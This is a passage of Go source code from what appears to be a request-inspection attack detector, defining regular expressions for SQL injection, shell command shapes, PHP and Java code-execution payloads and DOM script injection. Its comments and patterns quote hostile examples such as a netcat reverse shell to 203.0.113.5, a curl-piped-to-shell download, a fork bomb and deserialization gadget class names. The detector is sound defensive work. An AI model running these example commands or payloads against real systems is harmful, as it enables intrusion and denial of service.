	{"convert", regexp.MustCompile(`^convert ?\( ?int ?, ?(?:@@|db_name|user|\( ?select)`), 40, true, nil, 0, ""},
	{"cast", regexp.MustCompile(`^cast ?\( ?\( ?select\b`), 20, true, nil, 0, ""},
	{"load_file", regexp.MustCompile(`^load_file ?\(`), 12, true, nil, 0, ""},
	{"utl_inaddr.", regexp.MustCompile(`^utl_inaddr\.`), 12, true, nil, 0, ""},
	{"ctxsys.", regexp.MustCompile(`^ctxsys\.`), 8, true, nil, 0, ""},
	{"xmltype", regexp.MustCompile(`^xmltype ?\(`), 10, true, nil, 0, ""},
	{"dbms_", regexp.MustCompile(`^dbms_\w+\.\w+ ?\(`), 60, true, nil, 0, ""},
}

// sqlTimingCall: sleep(5), pg_sleep(5), benchmark(…), randomblob(…) or
// dbms_pipe.receive_message(…) right after AND, OR or ';'.
var sqlTimingCalls = []anchored{
	{"sleep", regexp.MustCompile(`^sleep ?\( ?\d`), 16, false, nil, 0, ""},
	{"benchmark", regexp.MustCompile(`^benchmark ?\( ?\d+ ?,`), 30, true, nil, 0, ""},
	{"randomblob", regexp.MustCompile(`^randomblob ?\( ?\d`), 20, true, nil, 0, ""},
	{"dbms_pipe.receive_message", regexp.MustCompile(`^dbms_pipe\.receive_message ?\(`), 30, true, nil, 0, ""},
}

// afterBoolOp reports a timing call whose keyword follows and/or/;/&&/||.
func afterBoolOp(n string, kw uint64) bool {
	for i := range sqlTimingCalls {
		a := &sqlTimingCalls[i]
		if a.bit != 0 && kw&a.bit == 0 {
			continue
		}
		for off := 0; off < len(n); {
			j := strings.Index(n[off:], a.kw)
			if j < 0 {
				break
			}
			j += off
			before := strings.TrimRight(strings.TrimSuffix(strings.TrimRight(n[:j], " "), "pg_"), " (")
			if (strings.HasSuffix(before, " and") || strings.HasSuffix(before, " or") || before == "and" || before == "or" || strings.HasSuffix(before, ";") || strings.HasSuffix(before, "&&") || strings.HasSuffix(before, "||")) && a.re.MatchString(n[j:min(len(n), j+a.window)]) {
				return true
			}
			off = j + len(a.kw)
		}
	}
	return false
}

// orderByNumber: ORDER/GROUP BY a column number, closed by a comment or
// the end, right after a number, a quote or a parenthesis (column
// counting).
var reOrderBy = regexp.MustCompile(`^(?:order|group) by \d+(?: ?,\d+)* ?(?:asc|desc)? ?(?:--|#|/\*|;|$)`)

func orderByNumber(n string) bool {
	for _, kw := range [...]string{"order by ", "group by "} {
		for off := 0; off < len(n); {
			i := strings.Index(n[off:], kw)
			if i < 0 {
				break
			}
			i += off
			b := strings.TrimRight(n[:i], " ")
			if (b == "" || strings.IndexByte("0123456789'\")`", b[len(b)-1]) >= 0) && reOrderBy.MatchString(n[i:min(len(n), i+40)]) {
				return true
			}
			off = i + len(kw)
		}
	}
	return false
}

// cmdBatch: cmd.exe FOR and IF syntax and substring expansion.
//
// FOR: an optional run of switches (/d, /f with its quoted options, /l,
// /r with a root), a loop variable (%i in a command line, %%i in a batch
// file; a bare %% only after a switch: the payload whose variable letter
// was lost), IN, a parenthesised set and DO. IF: /i (also glued, if/i),
// NOT, then EXIST/DEFINED/ERRORLEVEL with a command, or a comparison with
// == and a command, or with EQU…GEQ. Operands wrapped in the same
// brackets on both sides ((%1)==(x), {%1}=={}, [a]==[b]) are the batch
// idiom that protects an empty argument; with a %variable inside no
// command needs to follow. An operand ending in punctuation is prose
// ("if a == b, fine").
var reBatchIf = regexp.MustCompile(`^if ?(?:/i +| +)(?:not +)?(?:(?:exist|defined|errorlevel|cmdextversion) +\S+ +(?:\(|echo\b|@echo\b|goto\b|set\b|call\b|cmd\b|del\b|copy\b|type\b|start\b|exit\b|if\b|[a-z]+$)|(?:(?:"[^"]{0,40}"|[^\s({\[]\S*) ?== ?(?:"[^"]{0,40}"|\S*[^\s,.;:!])|\([^()\s]{0,40}\) ?== ?\([^()\s]{0,40}\)|\{[^{}\s]{0,40}\} ?== ?\{[^{}\s]{0,40}\}|\[[^\[\]\s]{0,40}\] ?== ?\[[^\[\]\s]{0,40}\]|\S+ (?:equ|neq|lss|leq|gtr|geq) \S+) +\S|(?:\([^()\s%]{0,20}%[^()\s]{1,20}\) ?== ?\([^()\s]{0,40}\)|\{[^{}\s%]{0,20}%[^{}\s]{1,20}\} ?== ?\{[^{}\s]{0,40}\}|\[[^\[\]\s%]{0,20}%[^\[\]\s]{1,20}\] ?== ?\[[^\[\]\s]{0,40}\]) ?$)`)

var cmdBatch = []anchored{
	{"for ", regexp.MustCompile(`^for +(?:(?:/[dflr] +(?:"[^"]*" +|[a-z]:/\S* +)?)+%%|(?:/[dflr] +(?:"[^"]*" +|[a-z]:/\S* +)?)*%%?[^ %]{1,24}) +in +\([^)]*\) ?do\b`), 200, true, []string{"%", " in ", "do"}, 0, ""},
	{"if ", reBatchIf, 100, true, nil, 0, ""},
	{"if/i ", reBatchIf, 100, true, nil, 0, ""},
	{"%", regexp.MustCompile(`^%[a-z_]\w*:~-?\d+(?:,-?\d+)?%`), 24, false, []string{":~"}, 0, ""},
}

// cmdBatchNoIf is cmdBatch without its IF forms.
var cmdBatchNoIf = func() []anchored {
	var out []anchored
	for _, a := range cmdBatch {
		if !strings.HasPrefix(a.kw, "if") {
			out = append(out, a)
		}
	}
	return out
}()

// batchIfAtCommand: an "if " of n starts a command, at the start of the
// value or after &, |, (, @ or a line break, as cmd.exe reads one. A
// template's {% if %}, a comprehension's "for x in y if z" and a ternary
// put it after a word or a tag.
func batchIfAtCommand(n string) bool {
	for i := 0; ; {
		j := strings.Index(n[i:], "if ")
		if j < 0 {
			return false
		}
		k := i + j
		p := strings.TrimRight(n[:k], " \t")
		if p == "" || strings.IndexByte("&|(@\n\r", p[len(p)-1]) >= 0 {
			return true
		}
		i = k + 3
	}
}

// cmdShapes: process substitution, command substitution of a word,
// arithmetic expansion, fork bombs, aliases, brace expansion.
var cmdShapes = []anchored{
	{"<(", regexp.MustCompile(`^<\( ?[a-z][\w-]*(?: |\))`), 24, false, nil, 0, ""},
	{">(", regexp.MustCompile(`^>\( ?[a-z][\w-]*(?: |\))`), 24, false, nil, 0, ""},
	{"$(", regexp.MustCompile(`^\$\( ?[a-z][\w-]{1,20} ?(?:\)|\s+[-/~.$a-z])`), 32, false, nil, 0, ""},
	{"$[", regexp.MustCompile(`^\$\[ ?(?:\d+ ?[-+*/ ] ?\d+ ?)?\]`), 16, false, nil, 0, ""},
	{"alias ", regexp.MustCompile(`^alias +(?:[-+][a-z]+ +)*[\w.'"-]+=`), 40, true, nil, 0, ""},
	{"{,", regexp.MustCompile(`^\{,[^{}\s]*,?[^{}\s]*\}`), 40, false, nil, 0, ""},
}

// rePipeShell: output piped into a shell or an interpreter reading stdin
// (curl … | sh, … | rev | bash, | python -).
// A shell comment may close the line (… | sh #).
var rePipeShell = regexp.MustCompile(`\| ?(?:sudo )?(?:sh|bash|zsh|ksh|dash|ash|python[23]?|perl|ruby|php|node)(?: -[a-z]*| -)? *;? *(?:#[^\n]*)?\s*$`)

// reReverseShell: netcat told to run a shell for whoever it connects to
// (nc 203.0.113.5 4444 -e /bin/sh, ncat -c bash …), or socat joining a
// socket to a program (socat tcp:…:4444 exec:sh): a reverse or bind shell,
// wherever it sits in the value.
var reReverseShell = regexp.MustCompile(`(?:^|[^\w.-])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?: +[^;|&\n ]+){0,6}? +-[a-z]*[ec] *(?:/[\w/]*/)?(?:sh|bash|zsh|ksh|dash|ash|cmd(?:\.exe)?|powershell(?:\.exe)?)\b|(?:^|[^\w.-])socat +[^;|&\n]{0,120}?\b(?:exec|system):`)

// reverseShell gates reReverseShell on its words.
func reverseShell(sh string) bool {
	return (strings.Contains(sh, " -") || strings.Contains(sh, "exec:") || strings.Contains(sh, "system:")) &&
		containsAny(sh, "nc ", "ncat", "netcat", "nc.", "socat") && reReverseShell.MatchString(sh)
}

// reForkBomb: a function that calls itself twice, piped or in the
// background, then is called: :(){ :|:& };:
var reForkBomb = regexp.MustCompile(`[\w:.]+ ?\( ?\) ?\{[^}]*[|&][^}]*\} ?; ?[\w:.]+`)

// reBraceWord: brace expansion glued to a word ({l,-lh}s, {cat,/etc/x}).
var reBraceWord = regexp.MustCompile(`\{[a-z/?*.-]+,[^{}\s]+\}[a-z]`)

// domSnippet: a DOM write that is a line of a script as documentation
// shows it, a statement closed by ";" that assigns a quoted text without
// markup, URL or call (document.getElementById("demo").innerHTML = "Hello
// JavaScript!";). An injected expression is not terminated so, and an
// injected markup or URL is judged by the other rules.
func domSnippet(n string) bool {
	n = strings.TrimRight(n, " ")
	if !strings.HasSuffix(n, ";") {
		return false
	}
	n = strings.TrimRight(n[:len(n)-1], " ")
	if len(n) < 2 || n[len(n)-1] != '"' && n[len(n)-1] != '\'' {
		return false
	}
	q := n[len(n)-1]
	open := strings.LastIndexByte(n[:len(n)-1], q)
	if open < 1 {
		return false
	}
	lhs := strings.TrimRight(n[:open], " ")
	return strings.HasSuffix(lhs, "=") && strings.IndexAny(n[open+1:len(n)-1], "<>:()&") < 0
}

// domGlobalStart: n starts (after one space) with a browser global of
// reDOMWrite.
func domGlobalStart(n string) bool {
	n = strings.TrimPrefix(n, " ")
	if n == "" {
		return false
	}
	switch n[0] {
	case 'd':
		return strings.HasPrefix(n, "document")
	case 'w':
		return strings.HasPrefix(n, "window")
	case 't':
		return strings.HasPrefix(n, "top")
	case 's':
		return strings.HasPrefix(n, "self")
	case 'p':
		return strings.HasPrefix(n, "parent")
	case 'f':
		return strings.HasPrefix(n, "frames")
	case 'g':
		return strings.HasPrefix(n, "globalthis")
	}
	return false
}

// jsGlobalWords are the browser globals of reJSCommentMember.
var jsGlobalWords = []string{"document", "window", "self", "top", "parent", "location", "globalthis"}

// jsBreakWords gate reJSStringBreak.
var jsBreakWords = []string{"alert", "prompt", "confirm", "eval", "print", "fetch", "import", "settimeout", "setinterval", "atob", "document.write", "location", "window.open"}

// keywordsIf scans s for keywords when cond holds (s is a transformed
// form of the value, such as its shell form).
func keywordsIf(cond bool, s string) uint64 {
	if !cond {
		return 0
	}
	return keywords.scan(s)
}

// uploadNameHeader: the non-standard request headers AJAX uploaders send
// the file name in.
func uploadNameHeader(name string) bool {
	if len(name) < 10 || name[0]|0x20 != 'x' {
		return false
	}
	for _, h := range [...]string{"x-filename", "x_filename", "x.filename", "x-file-name", "x-file_name", "x-upload-filename"} {
		if strings.EqualFold(name, h) {
			return true
		}
	}
	return false
}

// PHP code without the calls reRCECode knows: the short open tag with a
// statement, BBCode-style [php] and Smarty {php} blocks, variable
// variables (${'a'.'b'}), error-suppressed calls (@exec('…')) and calls
// whose name and parenthesis are split by a comment or a line break
// (exec/**/(…), eval\r($x)): only obfuscation writes those.
var (
	rePHPTag    = regexp.MustCompile(`<\?\s*(?:php)?\s*(?:echo|print|exec|system|passthru|shell_exec|eval|assert|include|require|include_once|require_once|phpinfo|file_get_contents|fopen|readfile|\$_?[a-z]\w*)\b|\[php\].{0,200}?(?:\[/php\]|echo|\$|\()|\{php\}|\{/php\}`)
	rePHPVarVar = regexp.MustCompile(`\$ *\{ *['"][^'"]{0,40}['"] *(?:\.|\})|\$[a-z_]\w*(?: ?\[ ?['"]?\w{0,20}['"]? ?\])+ ?\(|\$_+ ?\(`)
	// Perl's interpolated code block @{[ … ]} (the array reference is
	// built, so the code runs, whatever follows its "]": the closing brace
	// may be cut off or the block followed by more text) and a function
	// called by a parenthesised or cast name ((system)('id'),
	// (string){…}('id')).
	rePerlBlock    = regexp.MustCompile(`@\{ ?\[ ?[^\]\s][^\]]{0,200}\]`)
	rePHPParenCall = regexp.MustCompile(`\( ?(?:system|exec|passthru|shell_exec|assert|eval|popen|proc_open|phpinfo|base64_decode|str_rot13|create_function|call_user_func) ?\) ?\(|\((?:string|array|object)\) ?\{ ?\[`)
	// rePHPAtCall is tried at each '@'; rePHPSplitCall only when a PHP
	// function name (keyword group kwPHPFunc) and a comment or line break
	// are present.
	rePHPAtCall    = regexp.MustCompile(`^@ ?(?:exec|system|passthru|shell_exec|eval|assert|popen|proc_open|file_get_contents|file_put_contents|fopen|unlink|base64_decode|phpinfo) ?\(`)
	rePHPSplitCall = regexp.MustCompile(`\b(?:exec|system|passthru|shell_exec|eval|assert|popen|proc_open|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|call_user_func|create_function|file_get_contents|file_put_contents|phpinfo|chr|strrev|zlib_decode|get_defined_vars|posix_\w+)(?:\s*(?:/\*[^*]{0,64}\*/|//[^\n]{0,64}\n|#[^\n]{0,64}\n))+\s*\(|\b(?:exec|system|passthru|shell_exec|eval|assert|popen|proc_open|base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo)[\r\n\t\v\f]+\(`)
)

// phpFuncWords are the function names of rePHPSplitCall (keyword group
// kwPHPFunc).
var phpFuncWords = []string{"exec", "system", "passthru", "eval", "assert", "popen", "proc_open", "base64_decode", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "call_user_func", "create_function", "file_get_contents", "file_put_contents", "phpinfo", "chr(", "chr (", "strrev", "zlib_decode", "get_defined_vars", "posix_"}

// phpClasses: a tag, a variable or a call; a value with none of these
// classes gives detectPHPGrammar nothing to find, and runDetectors does not
// call it.
const phpClasses = cLT | cBracket | cBrace | cDollar | cAt | cParen

// detectPHPGrammar flags PHP code by its syntax.
func detectPHPGrammar(e *emitter, v *value) {
	if v.cls&phpClasses == 0 {
		return
	}
	if v.cls&(cLT|cBracket|cBrace) != 0 && (strings.Contains(v.norm, "<?") || strings.Contains(v.norm, "php")) && rePHPTag.MatchString(v.norm) {
		e.hit(rRCECode)
		return
	}
	if v.cls&cDollar != 0 && isParamName(v.kind) && phpSuperglobal(v.norm) {
		e.hit(rRCECode)
		return
	}
	if v.cls&cDollar != 0 && v.cls&(cBrace|cBracket|cParen) != 0 && rePHPVarVar.MatchString(v.norm) {
		e.hit(rRCECode)
		return
	}
	if v.cls&cAt != 0 && v.cls&cBrace != 0 && v.cls&cBracket != 0 && rePerlBlock.MatchString(v.norm) {
		e.hit(rRCECode)
		return
	}
	if v.cls&cParen != 0 && v.kw&kwPHPFunc != 0 && (strings.Contains(v.norm, ")(") || strings.Contains(v.norm, ") (") || strings.Contains(v.norm, "){")) && rePHPParenCall.MatchString(v.norm) {
		e.hit(rRCECode)
		return
	}
	if v.cls&cDollar != 0 && strings.Contains(v.norm, "_$$nd_func$$_") || v.kw&kwSink != 0 && strings.Contains(v.norm, "constructor.constructor") {
		// node-serialize's function marker; the sandbox escape to the
		// Function constructor.
		e.hit(rRCECode)
		return
	}
	if v.cls&cParen == 0 {
		return
	}
	if v.cls&cAt != 0 {
		for rest := v.norm; ; {
			i := strings.IndexByte(rest, '@')
			if i < 0 {
				break
			}
			if rePHPAtCall.MatchString(rest[i:min(len(rest), i+40)]) {
				e.hit(rRCECode)
				return
			}
			rest = rest[i+1:]
		}
	}
	if v.kw&kwPHPFunc != 0 && (v.cls&(cStar|cHash|cNL|cCtrl) != 0 || strings.Contains(v.dec, "//")) {
		// On dec: norm has dropped the comments this looks for.
		if rePHPSplitCall.MatchString(strings.ToLower(v.dec)) {
			e.hit(rRCECode)
		}
	}
}

// phpSuperglobals are PHP's request and environment arrays, as written in
// code.
var phpSuperglobals = [...]string{"$_get", "$_post", "$_cookie", "$_request", "$_server", "$_files", "$_env", "$_session", "$globals", "$http_raw_post_data"}

// phpSuperglobal reports a parameter name (lower-cased) that is a PHP
// superglobal, alone or indexed ("$_COOKIE", "$_SERVER[x]"): a name only a
// request that means to overwrite the script's own variables (extract(),
// register_globals, parse_str) sends.
func phpSuperglobal(name string) bool {
	if len(name) < 4 || name[0] != '$' {
		return false
	}
	for _, g := range phpSuperglobals {
		if strings.HasPrefix(name, g) && (len(name) == len(g) || name[len(g)] == '[') {
			return true
		}
	}
	return false
}

// Java classes whose only use in a request is code execution or
// deserialization: the process API, script engines, and the gadget
// classes of the published Commons Collections, Spring, Groovy, XStream,
// JNDI and Xalan chains, OGNL's context objects, and Fastjson's @type
// with a class name.
var javaExecClasses = []string{
	"java.lang.runtime", "java.lang.processbuilder", "java.lang.processimpl", "javax.script.scriptenginemanager",
	"org.apache.commons.collections.functors", "org.apache.commons.collections4.functors", "invokertransformer", "chainedtransformer",
	"instantiatetransformer", "constanttransformer", "clonetransformer", "instantiatefactory", "prototypeclonefactory", "prototypeserializationfactory",
	"whileclosure", "forclosure", "com.sun.rowset.jdbcrowsetimpl", "xsltc.trax.templatesimpl", "org.springframework.beans.factory.objectfactory",
	"org.codehaus.groovy.runtime", "groovy.lang.groovyshell", "bsh.interpreter", "ognl.ognlcontext", "ognlutil", "#_memberaccess", "_memberaccess[",
	"com.opensymphony.xwork2", "java.net.urlclassloader", "javax.naming.initialcontext", "java.beans.xmldecoder", "com.thoughtworks.xstream",
	"org.yaml.snakeyaml.constructor", "com.mchange.v2.c3p0", "java.rmi.server.unicastremoteobject", "sun.rmi.server", "javax.management.remote",
	"org.apache.xbean.naming", "org.apache.tomcat.dbcp", "com.sun.jndi", "jdk.jshell",
}

// javaWords gate the Java class search (keyword group kwJava).
var javaWords = []string{"java.", "javax.", "org.apache", "org.spring", "org.codehaus", "org.yaml", "com.sun", "com.opensymphony", "com.thoughtworks", "com.mchange", "transformer", "closure", "factory", "groovy", "bsh.", "ognl", "memberaccess", "sun.", "jdk.", "@type"}

// javaClassClasses: a qualified name or a member reference; a value with
// none of these classes gives detectJavaClass nothing to find, and
// runDetectors does not call it.
const javaClassClasses = cDot | cHash

// detectJavaClass flags the classes above, and Fastjson's "@type" naming a
// class.
func detectJavaClass(e *emitter, v *value) {
	if v.cls&javaClassClasses == 0 {
		return
	}
	n := v.norm
	if v.kw&kwJava == 0 {
		return
	}
	for _, c := range javaExecClasses {
		if strings.Contains(n, c) {
			e.hit(rRCECode)
			return
		}
	}
	if i := strings.Index(n, "@type"); i >= 0 {
		r := strings.TrimLeft(n[i+5:], "\"' :")
		if strings.HasPrefix(r, "java.") || strings.HasPrefix(r, "javax.") || strings.HasPrefix(r, "com.") || strings.HasPrefix(r, "org.") || strings.HasPrefix(r, "sun.") || strings.HasPrefix(r, "l") && strings.HasPrefix(r[1:], "com.") {
			e.hit(rRCECode)
		}
	}
}

// secretishName: a file name that says it holds configuration or secrets.
func secretishName(b string) bool {
	for _, w := range [...]string{"settings", "config", "secret", "credential", "token", "password", "passwd", "key", "auth", ".env", "history", "session", "private"} {
		if strings.Contains(b, w) {
			return true
		}
	}
	return false
}

// sourceDocument reports a value that is a document or a source file
// rather than a fragment: an HTML page (a doctype or <html> first, at least
// three lines), or program text (at least three lines and two of the
// statement forms of JavaScript/TypeScript modules and components).
// Injected payloads are fragments: short, single-line, no module syntax.
func sourceDocument(v *value) bool {
	d := v.dec
	if strings.Count(d, "\n") < 3 {
		return false
	}
	t := strings.ToLower(strings.TrimLeft(d, " \t\r\n\ufeff")[:min(len(strings.TrimLeft(d, " \t\r\n\ufeff")), 16)])
	if strings.HasPrefix(t, "<!doctype html") || strings.HasPrefix(t, "<html") {
		return true
	}
	forms := 0
	for _, f := range [...]string{"import ", "export ", "const ", "let ", "function ", "return ", "=> ", "class ", "require(", "module.exports", "<template>", "props", "usestate(", "def "} {
		if strings.Contains(v.norm, f) {
			forms++
			if forms >= 3 {
				return true
			}
		}
	}
	return false
}
